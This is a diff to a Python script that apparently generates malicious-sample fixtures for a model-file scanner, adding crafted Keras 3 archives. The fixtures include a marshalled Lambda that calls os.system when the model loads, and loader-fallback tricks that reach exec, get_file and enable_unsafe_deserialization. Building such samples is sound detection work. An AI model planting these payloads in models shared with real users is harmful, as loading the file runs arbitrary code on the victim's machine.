@@ -731,6 +731,45 @@ def zip_deflated_crc():
     write('malicious', 'zip_bad_crc_deflated.pt', bytes(z))
 
 
+def keras_config(layers):
+    return {'module': 'keras', 'class_name': 'Sequential', 'registered_name': None, 'config': {'name': 'seq', 'layers': layers}}
+
+
+def keras_zip(members):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, 'w') as z:
+        for name, data in members:
+            z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
+    return buf.getvalue()
+
+
+def malicious_keras_config_only():
+    """Keras 3 deserializes config.json before it looks for weights (h5 or npz); metadata.json is never read.
+
+    Also the loader's fallbacks: a name missing from its module falls back to `registered_name`, Keras'
+    sources are imported by module path (`keras.src.utils.file_utils.get_file`), and
+    `keras.config.enable_unsafe_deserialization` turns safe mode off."""
+    import marshal, base64
+    code = base64.b64encode(marshal.dumps((lambda x: __import__('os').system(PAYLOAD)).__code__)).decode()
+    lam = {'module': 'keras.layers', 'class_name': 'Lambda', 'registered_name': None,
+           'config': {'name': 'lambda', 'function': {'class_name': '__lambda__', 'config': {'code': code, 'defaults': None, 'closure': None}}}}
+    cfg = json.dumps(keras_config([lam]))
+    write('malicious', 'keras_config_only.keras', keras_zip([('config.json', cfg)]))
+    npz = io.BytesIO()
+    np.savez(npz, w=np.zeros(2, dtype=np.float32))
+    write('malicious', 'keras_npz_weights.keras', keras_zip([('config.json', cfg), ('model.weights.npz', npz.getvalue())]))
+
+    def dense(activation):
+        return keras_config([{'module': 'keras.layers', 'class_name': 'Dense', 'registered_name': None,
+                              'config': {'name': 'dense', 'units': 2, 'activation': activation}}])
+    write('malicious', 'keras_registered_name_fallback.keras', keras_zip([('config.json', json.dumps(dense(
+        {'module': 'builtins', 'class_name': 'function', 'config': 'zz_not_there', 'registered_name': 'exec'})))]))
+    write('malicious', 'keras_src_get_file.keras', keras_archive(dense(
+        {'module': 'keras.src.utils.file_utils', 'class_name': 'function', 'config': 'get_file', 'registered_name': 'function'})))
+    write('malicious', 'keras_enable_unsafe_deserialization.keras', keras_archive(dense(
+        {'module': 'keras.config', 'class_name': 'function', 'config': 'enable_unsafe_deserialization', 'registered_name': 'function'})))
+
+
 if __name__ == '__main__':
     if '--only' in sys.argv:
         # `--only benign_everyday_models`: write one group without rewriting the others (zip and tar
@@ -754,6 +793,7 @@ if __name__ == '__main__':
     npz_compression_methods()
     zip_deflated_crc()
     joblib_lz4()
+    malicious_keras_config_only()
     for kind in ('benign', 'malicious', 'review', 'malformed'):
         files = sorted(os.listdir(os.path.join(ROOT, kind)))
         print(kind, len(files), sum(os.path.getsize(os.path.join(ROOT, kind, f)) for f in files), 'bytes')
